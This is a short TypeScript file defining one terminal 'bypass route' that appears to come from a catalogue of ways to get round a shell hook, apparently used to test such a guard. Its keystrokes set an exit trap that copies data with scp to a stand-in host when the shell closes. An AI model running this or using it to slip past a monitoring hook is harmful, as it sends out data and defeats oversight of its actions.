import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'trap EXIT',
  source: 'attempts to get round a hook of the shell',
  keys: ["trap 'scp DATA host:' EXIT\r", 'exit\r'],
};
